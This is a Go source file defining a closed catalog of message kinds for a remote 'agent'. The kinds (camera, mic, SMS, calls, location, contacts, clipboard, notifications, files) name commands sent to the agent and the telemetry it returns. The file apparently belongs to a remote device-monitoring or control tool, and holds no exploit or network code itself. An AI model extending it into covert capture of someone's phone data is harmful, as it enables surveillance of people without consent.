package catalog

// Kind is the short code of one agent message channel. The same code is used
// in both directions: outbound it names a command for the agent to execute,
// inbound it tags the telemetry payload the agent pushed.
type Kind string

const (
	Camera            Kind = "camera"
	Files             Kind = "files"
	Calls             Kind = "calls"
	SMS               Kind = "sms"
	Mic               Kind = "mic"
	Location          Kind = "location"
	Contacts          Kind = "contacts"
	Wifi              Kind = "wifi"
	Notifications     Kind = "notifications"
	Clipboard         Kind = "clipboard"
	Apps              Kind = "apps"
	Permissions       Kind = "permissions"
	PermissionGranted Kind = "permission-granted"
)

// All lists every recognized kind in a stable order.
func All() []Kind {
	return []Kind{
		Camera, Files, Calls, SMS, Mic, Location, Contacts,
		Wifi, Notifications, Clipboard, Apps, Permissions, PermissionGranted,
	}
}

// Parse maps a wire code to a Kind. The second return is false for codes
// outside the catalog; callers must treat those as unknown, never pass them on.
func Parse(code string) (Kind, bool) {
	k := Kind(code)
	return k, k.Valid()
}

// Valid reports whether k is part of the closed catalog.
func (k Kind) Valid() bool {
	switch k {
	case Camera, Files, Calls, SMS, Mic, Location, Contacts,
		Wifi, Notifications, Clipboard, Apps, Permissions, PermissionGranted:
		return true
	}
	return false
}

func (k Kind) String() string {
	return string(k)
}
